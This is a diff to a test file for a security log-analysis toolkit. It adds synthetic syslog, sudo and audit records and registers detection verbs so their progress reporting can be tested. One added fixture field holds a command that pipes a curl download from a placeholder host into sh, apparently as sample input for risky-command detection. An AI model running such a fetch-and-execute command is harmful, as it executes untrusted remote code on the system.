@@ -1,6 +1,7 @@
 import { silentLog, Table, type Verb } from '@pivotkit/core';
 import { standard } from '@pivotkit/plugin-standard';
 import { describe, expect, test } from 'vitest';
+import { Keyed } from '../../../plugins/mask/src/keyed.ts';
 
 const day = Date.UTC(2026, 0, 1);
 const minute = 60_000;
@@ -46,6 +47,18 @@ const alerts = Table.fromRows(
   })),
 );
 
+const syslog = Table.fromRows(
+  Array.from({ length: 3000 }, (_, i) => ({
+    TimeGenerated: new Date(day + i * minute),
+    HostName: `ws${i % 7}`,
+    ProcessName: 'sudo',
+    SyslogMessage: `pam_unix(sudo:session): session ${i % 2 === 0 ? 'opened' : 'closed'} for user root(uid=0) by ann(uid=1000)`,
+    Command: `/usr/bin/curl http://a.example/${i} | sh`,
+    line: `<13>1 2026-01-01T00:00:00Z ws${i % 7} sudo ${i} - - message ${i}`,
+    audit: `type=SYSCALL msg=audit(1767225600.000:${i}): arch=c000003e syscall=59 success=yes pid=${i} comm="sh"`,
+  })),
+);
+
 interface Sample {
   readonly table: Table<object>;
   readonly options: object;
@@ -55,6 +68,8 @@ interface Sample {
 const samples: Readonly<Record<string, Sample>> = {
   'alerts.entities': { table: alerts, options: {} },
   'alerts.related': { table: alerts, options: {} },
+  'audit.parse': { table: syslog, options: { column: 'audit' } },
+  'beacon.detect': { table: events, options: { groupBy: ['Account', 'Computer'] } },
   'cluster.features': { table: events, options: {} },
   'cluster.textFeatures': { table: events, options: { column: 'CommandLine' } },
   'cluster.dbscan': {
@@ -62,9 +77,13 @@ const samples: Readonly<Record<string, Sample>> = {
     options: { clusterColumns: [{ column: 'CommandLine', feature: 'charOrdScore' }] },
   },
   'cluster.rareSessions': { table: events, options: { clusterColumns: [{ column: 'CommandLine', feature: 'length' }], sessionColumns: ['SubjectLogonId'] } }, // prettier-ignore
+  'cmdline.normalize': { table: events, options: {} },
   'decode.base64': { table: events, options: { column: 'CommandLine' } },
   'entities.graph': { table: events, options: { columns: { Computer: 'Host', Account: 'Account' } } },
   'entities.nodes': { table: events, options: { columns: { Computer: 'Host', Account: 'Account' } } },
+  'ioc.extract': { table: events, options: {} },
+  'mask.data': { table: events, options: {} },
+  'outliers.isolationForest': { table: events, options: { columns: ['bytes'] } },
   'process.tree': { table: events, options: {} },
   'process.related': { table: events, options: { relation: 'roots' } },
   'process.summary': { table: events, options: {} },
@@ -73,12 +92,19 @@ const samples: Readonly<Record<string, Sample>> = {
   'sequence.mark': { table: events, options: { userIdentifierCols: 'Account' } },
   'sequence.train': { table: sessions, options: {} },
   'sequence.score': { table: sessions, options: {} },
+  'syslog.hostSummary': { table: syslog, options: {} },
+  'syslog.lines': { table: syslog, options: {} },
+  'syslog.risky': { table: syslog, options: { useSessionRules: false } },
+  'syslog.sessions': { table: syslog, options: {} },
   'timeseries.anomalies': { table: hourly, options: { dataColumn: 'bytes' } },
   'timeseries.summarize': { table: hourly, options: {} },
 };
 
-/** Verbs of these plugins that look at every row once, or keep a few findings: nothing to wait for. */
-const short = new Set(['timeseries.periods', 'observations.add', 'observations.list']);
+/** What the setup of plugins gives their verbs. */
+const states: Readonly<Record<string, unknown>> = { 'mask.data': { keyed: new Keyed(Buffer.alloc(32)) } };
+
+/** Look at every row once with a comparison or a little arithmetic, or keep a few findings: nothing to wait for. */
+const short = new Set(['geolocation.distance', 'observations.add', 'observations.list', 'syslog.bursts', 'timeseries.periods']); // prettier-ignore
 
 const verbs: readonly Verb[] = standard.flatMap((plugin): readonly Verb[] => plugin.verbs);
 const verbNamed = (name: string): Verb | undefined => verbs.find((verb) => verb.name === name);
@@ -93,17 +119,14 @@ async function run(
   const { table, options } = samples[name] ?? { table: events, options: {} };
   let now = 0;
   const clock = { now: () => new Date(day), monotonicMs: () => (now += 1000) };
-  const call = { state: undefined, signal, log: silentLog, clock, progress: onProgress };
+  const call = { state: states[name], signal, log: silentLog, clock, firstRow: 0, progress: onProgress };
   return verb?.run(table, verb.options.parse(options) as never, call as never);
 }
 
 describe('verbs that take long', () => {
-  const plugins = ['alerts', 'cluster', 'decode', 'entities', 'observations', 'process', 'sequence', 'timeseries'];
-  const theirs = verbs.filter(({ name }) => plugins.includes(name.split('.')[0] ?? ''));
-
-  test('every verb of the analyses is one of them, or short', () => {
-    const missing = theirs.map(({ name }) => name).filter((name) => samples[name] === undefined && !short.has(name));
-    expect(missing).toEqual([]);
+  test('every verb is one of them, or short, or waits for others that it asks', () => {
+    const alone = verbs.filter(({ asks }) => asks === undefined).map(({ name }) => name);
+    expect(alone.filter((name) => samples[name] === undefined && !short.has(name))).toEqual([]);
   });
 
   test.each(Object.keys(samples))('%s says how far it is', async (name) => {
